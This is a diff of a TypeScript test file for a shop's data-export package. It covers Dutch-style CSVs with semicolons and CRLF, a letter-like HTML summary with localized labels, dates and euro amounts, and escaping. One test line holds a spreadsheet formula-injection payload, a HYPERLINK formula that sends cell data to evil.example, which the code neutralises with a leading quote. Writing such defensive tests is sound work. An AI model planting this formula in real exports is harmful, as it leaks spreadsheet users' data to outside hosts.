@@ -4,8 +4,10 @@ import { strFromU8, unzipSync } from 'fflate';
 import { readCsv } from '../../test/helpers/csv.ts';
 import { loadYamlFile } from '../config/yaml-file.ts';
 import type { FoundRecord } from '../connectors/connector.ts';
+import { DataMap } from '../datamap/datamap.schema.ts';
 import type { AccessResult } from '../executor/executor.ts';
 import { Policy } from '../policy/policy.schema.ts';
+import { dataLabels } from './data-labels.ts';
 import { buildExportPackage, type ExportData, exportFileName } from './export-package.ts';
 
 const loaded = loadYamlFile('examples/balkonzon/policy.yaml', Policy);
@@ -135,18 +137,23 @@ describe('the export package', () => {
     assert.equal(data.type, 'access');
   });
 
-  it('writes CSVs with a BOM that read back right, commas, quotes and line breaks included', () => {
-    const { files } = unpack(accessResult());
+  it('writes CSVs for a Dutch spreadsheet (BOM, semicolons, CRLF) that read back right, quotes and line breaks included', () => {
+    const result = accessResult();
+    result.records[1]!.data = { ...result.records[1]!.data, shipped_to: 'Blaublomke 1; achterom' };
+    const { files } = unpack(result);
     const bytes = files['csv/shop/orders.csv'];
     assert.ok(bytes);
     assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf]);
-    const rows = readCsv(strFromU8(bytes));
+    const text = strFromU8(bytes);
+    assert.ok(text.replace(/^\uFEFF/, '').startsWith('id;total;note;shipped_to;coupon\r\n'), 'semicolons and CRLF');
+    assert.doesNotMatch(text.replace(/"[^"]*"/g, ''), /(?<!\r)\n/, 'every record ends in CRLF');
+    const rows = readCsv(text, ';');
     assert.deepEqual(rows, [
       ['id', 'total', 'note', 'shipped_to', 'coupon'],
-      ['1001', '249.5', 'Bel even aan, "achterom"\nnaast de schuur, graag', 'Blaublomke 1', ''],
+      ['1001', '249.5', 'Bel even aan, "achterom"\nnaast de schuur, graag', 'Blaublomke 1; achterom', ''],
       ['1002', '12', '', '', 'ZOMER'],
     ]);
-    const customers = readCsv(strFromU8(files['csv/shop/customers.csv'] ?? new Uint8Array()));
+    const customers = readCsv(strFromU8(files['csv/shop/customers.csv'] ?? new Uint8Array()), ';');
     assert.deepEqual(customers[1], ['17', 'Sanne de Boer', 'sanne@example.nl', 'Gorredijk', 'true']);
   });
 
@@ -158,7 +165,7 @@ describe('the export package', () => {
       phone: '+31 6 12345678',
       balance: -12.5,
     };
-    const customers = readCsv(strFromU8(unpack(result).files['csv/shop/customers.csv'] ?? new Uint8Array()));
+    const customers = readCsv(strFromU8(unpack(result).files['csv/shop/customers.csv'] ?? new Uint8Array()), ';');
     const row = Object.fromEntries(customers[0]!.map((column, i) => [column, customers[1]![i]]));
     assert.equal(row.name, `'=HYPERLINK("https://evil.example/?"&A1,"Klik")`);
     assert.equal(row.phone, "'+31 6 12345678");
@@ -187,6 +194,75 @@ describe('the export package', () => {
       assert.doesNotMatch(html, /<script/i);
     });
   }
+
+  it('reads as a letter: a section per kind of data, labels in words, Dutch time and euros, no column names', () => {
+    const result = accessResult();
+    result.records[0]!.data = {
+      ...result.records[0]!.data,
+      created_at: '2025-09-07T12:03:00.000Z',
+      phone: '0612345678',
+    };
+    result.records[0]!.categories = { ...result.records[0]!.categories, created_at: 'account', phone: 'contact' };
+    result.records[1]!.data = {
+      ...result.records[1]!.data,
+      total_cents: 69195,
+      status: 'delivered',
+      provider: 'mollie',
+      method: 'ideal',
+      shipping_country: 'NL',
+    };
+    const reviews = record({
+      system: 'shop',
+      collection: 'reviews',
+      key: '5',
+      data: { id: 5, body: 'Mooi paneel', shipped_on: '2025-09-08' },
+      categories: { body: 'review' },
+    });
+    const html = unpack({ ...result, records: [...result.records, reviews] }).text('index.html');
+    const text = html.replace(/<style>[\s\S]*?<\/style>/g, ' ').replace(/<[^>]+>/g, ' ');
+    for (const said of ['Uw klantaccount', 'Uw bestellingen', 'Uw beoordelingen', 'Telefoonnummer', 'Plaats']) {
+      assert.ok(text.includes(said), `index.html says "${said}"`);
+    }
+    assert.ok(text.includes('7 september 2025, 14:03'), 'a timestamp in Dutch time (CEST)');
+    assert.ok(text.includes('8 september 2025'), 'a day in words');
+    assert.ok(text.includes('€ 691,95'), 'cents as euros');
+    assert.ok(text.includes('€ 249,50'), 'an amount as euros');
+    assert.ok(text.includes('bezorgd') && !text.includes('delivered'), "the shop's status in words");
+    assert.ok(text.includes('Mollie') && !/\bmollie\b/.test(text), 'a processor by its name, never its id');
+    assert.ok(text.includes('iDEAL') && text.includes('Nederland'), 'a payment method and a country in words');
+    for (const name of ['total_cents', 'shipped_to', 'created_at', 'customers', 'orders', 'shop ›', 'UTC']) {
+      assert.ok(!text.includes(name), `index.html does not say "${name}"`);
+    }
+    assert.ok(!html.includes('<dt>Kenmerk</dt>'), "a row's database key stays in data.json and the CSVs");
+    const en = unpack(result, 'en').text('index.html');
+    assert.ok(en.includes('Your customer account') && en.includes('7 September 2025, 14:03'));
+  });
+
+  it("takes the data map's labels for a collection and a field before the defaults", () => {
+    const labels = dataLabels(
+      DataMap.parse({
+        systems: {
+          shop: {
+            type: 'sql',
+            url: 'sqlite::memory:',
+            collections: {
+              orders: {
+                label: { nl: 'Uw aankopen', en: 'Your purchases' },
+                fields: { shipped_to: { category: 'shipping', label: { nl: 'Bezorgd op adres', en: 'Delivered to' } } },
+              },
+              customers: { fields: { name: { category: 'contact', role: 'full_name' } } },
+            },
+          },
+        },
+      }),
+    );
+    const html = strFromU8(
+      unzipSync(buildExportPackage(accessResult(), policy, { lang: 'nl', generatedAt: AT, labels }))['index.html']!,
+    );
+    assert.ok(html.includes('Uw aankopen') && html.includes('Bezorgd op adres'));
+    assert.ok(html.includes('<dt>Naam</dt>'), 'the role gives the word');
+    assert.ok(!html.includes('Uw bestellingen'));
+  });
 
   it('escapes a script in a record', () => {
     const result = accessResult();
